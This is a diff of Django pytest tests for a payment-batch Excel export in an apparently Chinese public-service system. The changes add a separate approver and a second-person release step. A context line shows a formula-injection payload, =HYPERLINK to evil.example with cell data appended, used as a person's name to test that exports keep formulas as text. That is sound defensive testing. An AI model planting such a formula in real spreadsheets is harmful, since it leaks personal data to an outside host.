@@ -14,7 +14,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
 
 @pytest.mark.django_db
 def test_a_person_named_as_a_formula_stays_text_in_the_payment_export(
-    fake_engine, make_user, make_person, clerk, reviewer, service, budgets, admin_user, settings, tmp_path
+    fake_engine, make_user, make_person, clerk, reviewer, approver, service, budgets, admin_user, settings, tmp_path
 ):
     from zhihui.core.roles import Role
     from zhihui.window import actions
@@ -27,7 +27,7 @@ def test_a_person_named_as_a_formula_stays_text_in_the_payment_export(
     app, _ = actions.submit(citizen, service, person=person)
     actions.accept(clerk, app)
     actions.review(reviewer, app)
-    actions.approve(reviewer, app)
+    actions.approve(approver, app)  # separation of duties: not whoever reviewed it
     batch = actions.create_payment_batch(admin_user, 2026)
     data = export_batch(batch)
     ws = load_workbook(io.BytesIO(data)).worksheets[0]
@@ -39,7 +39,7 @@ def test_a_person_named_as_a_formula_stays_text_in_the_payment_export(
 
 @pytest.mark.django_db
 def test_the_payment_export_is_registered_as_sharing_and_watermarked(
-    fake_engine, citizen, clerk, reviewer, service, budgets, admin_user, client_for, settings, tmp_path
+    fake_engine, citizen, clerk, reviewer, approver, service, budgets, admin_user, make_user, client_for, settings, tmp_path
 ):
     from zhihui.privacy.models import ExportRecord, SharingRecord
     from zhihui.window import actions
@@ -49,9 +49,12 @@ def test_the_payment_export_is_registered_as_sharing_and_watermarked(
     app, _ = actions.submit(citizen, service, person=citizen.person)
     actions.accept(clerk, app)
     actions.review(reviewer, app)
-    actions.approve(reviewer, app)
+    actions.approve(approver, app)  # separation of duties: not whoever reviewed it
     batch = actions.create_payment_batch(admin_user, 2026)
-    r = client_for(admin_user).get(f"/window/payments/batches/{batch.number}.xlsx")
+    from zhihui.core.roles import Role
+
+    actions.release_batch(make_user(Role.ADMIN, "admin2_t"), batch)  # a second person releases it
+    r = client_for(admin_user).post(f"/window/payments/batches/{batch.number}.xlsx")
     assert r.status_code == 200
     share = SharingRecord.objects.get()
     assert share.recipient == "济源示范区财政局" and list(share.persons.all()) == [citizen.person]
